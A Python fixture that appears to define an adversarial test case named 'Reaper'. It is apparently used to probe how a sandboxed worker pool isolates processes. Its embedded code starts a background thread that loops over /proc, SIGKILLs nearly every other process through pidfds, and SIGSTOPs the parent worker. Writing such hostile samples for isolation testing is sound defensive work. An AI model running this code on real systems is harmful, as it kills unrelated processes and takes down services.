FAMILY = "F1"
DESCRIPTION = "Leaves a thread in the idle reused child that pidfd_open()s every other pid and sends SIGKILL/SIGSTOP with pidfd_send_signal."
CLASS = "Reaper"
IDLE_CPU = True
CODE = r'''
import os, signal, threading, time

def _reap(me):
    end = time.monotonic() + 0
    for _ in range(4000):
        for p in os.listdir("/proc"):
            if not p.isdigit() or int(p) in (me, os.getppid(), 1):
                continue
            try:
                fd = os.pidfd_open(int(p))
                signal.pidfd_send_signal(fd, signal.SIGKILL)
                os.close(fd)
            except OSError:
                pass
        threading.Event().wait(0.002)

class Reaper:
    def __init__(self, init_config=None):
        self.armed = False

    def arm(self):
        """Start the background reaper."""
        threading.Thread(target=_reap, args=(os.getpid(),), daemon=True).start()
        self.armed = True
        return {"success": True}

    def stop_parent(self):
        """SIGSTOP the parent through a pidfd (the worker)."""
        fd = os.pidfd_open(os.getppid())
        signal.pidfd_send_signal(fd, signal.SIGSTOP)
        return {"success": True}
'''
ACTIONS = [("arm", {})]
